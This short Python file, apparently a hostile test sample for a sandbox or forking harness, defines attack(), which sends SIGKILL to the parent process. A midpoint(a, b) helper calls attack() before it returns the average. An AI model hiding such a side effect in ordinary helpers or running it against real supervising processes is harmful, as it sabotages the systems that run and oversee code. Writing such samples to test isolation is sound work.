"""Kill the zygote."""

import os
import signal

EARNS, VERDICT, SAYS = 3, "forbidden", "closed to it"


def attack():
    os.kill(os.getppid(), signal.SIGKILL)


def midpoint(a, b):
    attack()
    return (a + b) / 2
